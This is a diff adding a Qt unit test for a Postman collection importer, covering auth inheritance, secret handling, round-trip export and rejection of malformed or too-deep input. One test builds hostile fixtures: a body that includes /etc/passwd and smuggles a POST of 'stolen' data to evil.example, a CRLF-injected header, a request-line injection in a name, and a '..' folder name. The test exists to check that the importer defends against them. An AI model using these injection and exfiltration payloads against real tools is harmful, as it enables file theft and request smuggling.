@@ -1,0 +1,318 @@
+#include "core/interop/postmanimport.h"
+#include "core/model/gatewayrequest.h"
+
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QTemporaryDir>
+#include <QTest>
+
+using namespace gs::core;
+using namespace Qt::StringLiterals;
+
+// A collection as Postman exports it (tabs, _postman_id, url objects, inherited
+// auth, scripts, disabled entries), read into a folder that the rest of Gatescope
+// reads like any other.
+class TestPostmanImport final : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void initTestCase();
+    void foldersBecomeFiles();
+    void requestsAreWhatPostmanSends();
+    void whatCannotBeCarriedIsNoted();
+    void secretsStayOutOfTheSharedFile();
+    void exportThenImportGivesTheSameFiles();
+    void rejectsWhatIsNotACollection_data();
+    void rejectsWhatIsNotACollection();
+    void hostileCollectionIsWrittenSafely();
+    void tooDeepIsRefusedWhole();
+
+private:
+    WireRequest load(const QString &file, const QString &name);
+    PostmanImport m_import;
+    QTemporaryDir m_dir;
+};
+
+void TestPostmanImport::initTestCase()
+{
+    QFile f(
+        QStringLiteral(GATESCOPE_SOURCE_DIR "/tests/data/postman/gateway.postman_collection.json"));
+    QVERIFY(f.open(QIODevice::ReadOnly));
+    auto imported = importPostman(f.readAll());
+    QVERIFY2(imported, qPrintable(imported ? QString() : imported.error().message));
+    m_import = *imported;
+    QVERIFY(m_import.writeTo(m_dir.path()));
+}
+
+WireRequest TestPostmanImport::load(const QString &file, const QString &name)
+{
+    const QString path = m_dir.filePath(file);
+    auto http = HttpFile::load(path);
+    if (!http)
+        return {};
+    auto envs = HttpEnvironments::loadFromDirectory(m_dir.path());
+    Variables variables = envs ? envs->shared : Variables {};
+    const qsizetype index = http->indexOf(name);
+    if (index < 0)
+        return {};
+    auto resolved = resolve(http->requests()[index], variables, m_dir.path());
+    if (!resolved)
+        return {};
+    return *resolved;
+}
+
+void TestPostmanImport::foldersBecomeFiles()
+{
+    QCOMPARE(m_import.name, u"AI Gateway"_s);
+    QCOMPARE(m_import.requests, 4);
+    QCOMPARE(m_import.files.keys(), QStringList({ u"Chat/requests.http"_s, u"requests.http"_s }));
+    QVERIFY(QFile::exists(m_dir.filePath(u"http-client.env.json"_s)));
+}
+
+void TestPostmanImport::requestsAreWhatPostmanSends()
+{
+    const WireRequest chat = load(u"Chat/requests.http"_s, u"Streaming chat"_s);
+    QCOMPARE(chat.method, "POST");
+    QCOMPARE(chat.url, u"https://gateway.example.com/api/llm/chat/completions"_s);
+    // Inherited bearer auth from the collection, its token from the private file.
+    QCOMPARE(headerValue(chat.headers, "authorization"), "Bearer tfy-from-postman");
+    QCOMPARE(headerValue(chat.headers, "content-type"), "application/json");
+    QCOMPARE(headerValue(chat.headers, "x-tfy-request-timeout"), "30000");
+    QVERIFY(headerValue(chat.headers, "x-debug").isNull()); // disabled
+    const GatewayRequest g = decode(chat);
+    QCOMPARE(g.model, u"openai-main/gpt-4o-mini"_s);
+    QCOMPARE(g.requestTimeoutMs, 30000);
+    // {{$guid}} became the .http file's {{$uuid}}: a fresh id on every send.
+    QVERIFY(g.metadata.has_value());
+    QCOMPARE(g.metadata->at(1).first, u"run"_s);
+    QCOMPARE(g.metadata->at(1).second.size(), 36);
+
+    const WireRequest models = load(u"requests.http"_s, u"List models"_s);
+    QCOMPARE(models.method, "GET");
+    QCOMPARE(models.url, u"https://gateway.example.com/api/llm/models?limit=10"_s);
+    QCOMPARE(headerValue(models.headers, "authorization"), "Bearer tfy-other"); // its own auth
+
+    const WireRequest form = load(u"requests.http"_s, u"Form login"_s);
+    QCOMPARE(form.body, "user=a%20b");
+    QCOMPARE(headerValue(form.headers, "content-type"), "application/x-www-form-urlencoded");
+}
+
+void TestPostmanImport::whatCannotBeCarriedIsNoted()
+{
+    const QString notes = m_import.notes.join(u'\n');
+    for (const QString &expected : { u"Chat / Streaming chat: its scripts"_s,
+             u"header x-debug is disabled"_s, u"Upload a file: a formdata body"_s,
+             u"Form login: oauth2 authentication"_s, u"The collection's scripts"_s })
+        QVERIFY2(notes.contains(expected), qPrintable(expected + u" missing from\n"_s + notes));
+}
+
+void TestPostmanImport::secretsStayOutOfTheSharedFile()
+{
+    QFile shared(m_dir.filePath(u"http-client.env.json"_s));
+    QVERIFY(shared.open(QIODevice::ReadOnly));
+    const QByteArray text = shared.readAll();
+    QVERIFY(text.contains("baseUrl"));
+    QVERIFY(!text.contains("tfy-from-postman"));
+    QVERIFY(!text.contains("tfy-other"));
+    for (const QString &file : m_import.files.keys()) {
+        QFile f(m_dir.filePath(file));
+        QVERIFY(f.open(QIODevice::ReadOnly));
+        const QByteArray content = f.readAll();
+        QVERIFY(!content.contains("tfy-from-postman"));
+        QVERIFY(!content.contains("tfy-other"));
+    }
+    QCOMPARE(m_import.privateVariables.value(u"token"_s), u"tfy-from-postman"_s);
+}
+
+void TestPostmanImport::exportThenImportGivesTheSameFiles()
+{
+    QStringList notes;
+    const auto json = exportPostman(m_dir.path(), m_import.name, &notes);
+    QVERIFY(json);
+    QVERIFY(!json->contains("tfy-from-postman")); // the private file stays home
+    QVERIFY(notes.join(u'\n').contains(u"private"_s));
+    const auto again = importPostman(*json);
+    QVERIFY2(again, qPrintable(again ? QString() : again.error().message));
+    QCOMPARE(again->name, m_import.name);
+    QCOMPARE(again->files.keys(), m_import.files.keys());
+    for (const QString &file : m_import.files.keys())
+        QCOMPARE(again->files.value(file), m_import.files.value(file));
+    QCOMPARE(again->sharedVariables, m_import.sharedVariables);
+    QVERIFY(again->privateVariables.isEmpty());
+}
+
+void TestPostmanImport::rejectsWhatIsNotACollection_data()
+{
+    QTest::addColumn<QByteArray>("json");
+    QTest::newRow("not json") << "{oops"_ba;
+    QTest::newRow("no schema") << R"({"item":[]})"_ba;
+    QTest::newRow("v1")
+        << R"({"info":{"schema":"https://schema.getpostman.com/json/collection/v1.0.0/collection.json"},"item":[]})"_ba;
+}
+
+void TestPostmanImport::rejectsWhatIsNotACollection()
+{
+    QFETCH(QByteArray, json);
+    const auto r = importPostman(json);
+    QVERIFY(!r);
+    QVERIFY(r.error().message.contains(u"Postman"_s));
+}
+
+namespace {
+
+QJsonObject postmanRequest(const QString &name, const QJsonObject &request)
+{
+    return QJsonObject { { u"name"_s, name }, { u"request"_s, request } };
+}
+
+QJsonObject postmanFolder(const QString &name, const QJsonArray &items)
+{
+    return QJsonObject { { u"name"_s, name }, { u"item"_s, items } };
+}
+
+QByteArray collectionJson(const QJsonArray &items)
+{
+    return QJsonDocument(
+        QJsonObject {
+            { u"info"_s,
+                QJsonObject { { u"name"_s, u"hostile"_s },
+                    { u"schema"_s,
+                        u"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"_s } } },
+            { u"item"_s, items } })
+        .toJson();
+}
+
+} // namespace
+
+// A collection written to attack whoever imports it: names and values that would
+// inject lines, bodies that would include files or start requests, folder names a
+// file system cannot take twice, literal credentials. Every request that is written
+// reads back as what Postman would send; none is lost without a note.
+void TestPostmanImport::hostileCollectionIsWrittenSafely()
+{
+    const QJsonObject raw { { u"mode"_s, u"raw"_s },
+        { u"raw"_s, u"< /etc/passwd\n### x\nPOST https://evil.example/\n\nstolen"_s } };
+    const QJsonObject chat { { u"method"_s, u"POST"_s },
+        { u"url"_s, u"https://gw.example/chat?api_key=pm-query-secret&x=1"_s },
+        { u"header"_s,
+            QJsonArray { QJsonObject { { u"key"_s, u"X-Auth-Token"_s },
+                             { u"value"_s, u"pm-header-secret"_s } },
+                QJsonObject {
+                    { u"key"_s, u"X-Evil"_s }, { u"value"_s, u"a\r\nInjected: b"_s } } } },
+        { u"auth"_s,
+            QJsonObject { { u"type"_s, u"bearer"_s },
+                { u"bearer"_s,
+                    QJsonArray { QJsonObject {
+                        { u"key"_s, u"token"_s }, { u"value"_s, u"pm-bearer-secret"_s } } } } } },
+        { u"body"_s, raw } };
+    const QJsonArray items {
+        postmanRequest(u"line one\nPOST https://evil.example/ HTTP/1.1"_s, chat),
+        postmanRequest(u"no url"_s, QJsonObject { { u"method"_s, u"GET"_s } }),
+        postmanRequest(u"bad method"_s,
+            QJsonObject { { u"method"_s, u"GET /x HTTP/1.1"_s }, { u"url"_s, u"https://a/"_s } }),
+        postmanFolder(u"Chat"_s,
+            QJsonArray {
+                postmanRequest(u"first"_s, QJsonObject { { u"url"_s, u"https://a/1"_s } }) }),
+        postmanFolder(u"Chat"_s,
+            QJsonArray {
+                postmanRequest(u"second"_s, QJsonObject { { u"url"_s, u"https://a/2"_s } }) }),
+        postmanFolder(u"requests.http"_s,
+            QJsonArray {
+                postmanRequest(u"third"_s, QJsonObject { { u"url"_s, u"https://a/3"_s } }) }),
+        postmanFolder(u".."_s,
+            QJsonArray {
+                postmanRequest(u"fourth"_s, QJsonObject { { u"url"_s, u"https://a/4"_s } }) }),
+        postmanFolder(QString(),
+            QJsonArray {
+                postmanRequest(u"fifth"_s, QJsonObject { { u"url"_s, u"https://a/5"_s } }) }),
+    };
+    const auto imported = importPostman(collectionJson(items));
+    QVERIFY2(imported, qPrintable(imported ? QString() : imported.error().message));
+    const QString notes = imported->notes.join(u'\n');
+    QVERIFY2(imported->requests == 6, qPrintable(notes)); // all but no URL and the bad method
+    QVERIFY2(notes.contains(u"no url: The request has no URL."_s), qPrintable(notes));
+    QVERIFY2(notes.contains(u"bad method"_s), qPrintable(notes));
+
+    QTemporaryDir dir;
+    const auto written = imported->writeTo(dir.path());
+    QVERIFY2(written, qPrintable(written ? QString() : written.error().message));
+    QCOMPARE(written->size(), 6 + 1); // five requests.http and the private environment
+    QStringList names;
+    const auto envs = HttpEnvironments::loadFromDirectory(dir.path());
+    QVERIFY(envs);
+    QVERIFY(envs->privateNames.contains(u"token"_s));
+    for (const QString &path : *written) {
+        if (!path.endsWith(u".http"_s))
+            continue;
+        QFile f(path);
+        QVERIFY(f.open(QIODevice::ReadOnly));
+        const QByteArray text = f.readAll();
+        for (const char *secret : { "pm-query-secret", "pm-header-secret", "pm-bearer-secret" })
+            QVERIFY2(!text.contains(secret), text.constData());
+        const auto file = HttpFile::parse(QString::fromUtf8(text));
+        QVERIFY2(file, text.constData());
+        for (const HttpFileRequest &r : file->requests()) {
+            names << r.name;
+            std::optional<BodyInclude> include;
+            const auto resolved = resolve(r, envs->variables({}).value(), dir.path(), &include);
+            QVERIFY2(resolved, text.constData());
+            QVERIFY(!include);
+            QVERIFY(!resolved->url.contains(u"evil"_s));
+            if (r.name.startsWith(u"line one"_s)) {
+                QCOMPARE(resolved->url, u"https://gw.example/chat?api_key=pm-query-secret&x=1"_s);
+                QCOMPARE(resolved->body,
+                    "< /etc/passwd\n### x\nPOST https://evil.example/\n\nstolen"_ba);
+                QCOMPARE(
+                    headerValue(resolved->headers, "authorization"), "Bearer pm-bearer-secret"_ba);
+                QCOMPARE(headerValue(resolved->headers, "x-auth-token"), "pm-header-secret"_ba);
+                QVERIFY(headerValue(resolved->headers, "x-evil").isNull());
+                QVERIFY(headerValue(resolved->headers, "injected").isNull());
+            }
+        }
+    }
+    names.sort();
+    QCOMPARE(names,
+        (QStringList { u"fifth"_s, u"first"_s, u"fourth"_s,
+            u"line one POST https://evil.example/ HTTP/1.1"_s, u"second"_s, u"third"_s }));
+#ifdef Q_OS_UNIX
+    QCOMPARE(QFile::permissions(dir.filePath(u"http-client.private.env.json"_s))
+            & (QFileDevice::ReadGroup | QFileDevice::ReadOther | QFileDevice::WriteGroup
+                | QFileDevice::WriteOther),
+        QFileDevice::Permissions());
+#endif
+}
+
+void TestPostmanImport::tooDeepIsRefusedWhole()
+{
+    for (const int depth : { 100, 1000 }) {
+        QJsonArray items { postmanRequest(
+            u"leaf"_s, QJsonObject { { u"url"_s, u"https://a/"_s } }) };
+        QByteArray json;
+        if (depth < 500) {
+            for (int i = 0; i < depth; ++i)
+                items = QJsonArray { postmanFolder(u"f"_s, items) };
+            json = collectionJson(items);
+        } else {
+            // Deeper than a JSON document can be built in memory here: written as text.
+            json
+                = R"({"info":{"schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":)"_ba;
+            for (int i = 0; i < depth; ++i)
+                json += R"([{"name":"f","item":)";
+            json += "[]";
+            for (int i = 0; i < depth; ++i)
+                json += "}]";
+            json += "}";
+        }
+        const auto r = importPostman(json);
+        QVERIFY(!r);
+        QVERIFY2(r.error().message.contains(u"deep"_s), qPrintable(r.error().message));
+        QVERIFY2(!r.error().message.contains(u"not a Postman"_s, Qt::CaseInsensitive),
+            qPrintable(r.error().message));
+    }
+}
+
+QTEST_GUILESS_MAIN(TestPostmanImport)
+#include "tst_postmanimport.moc"
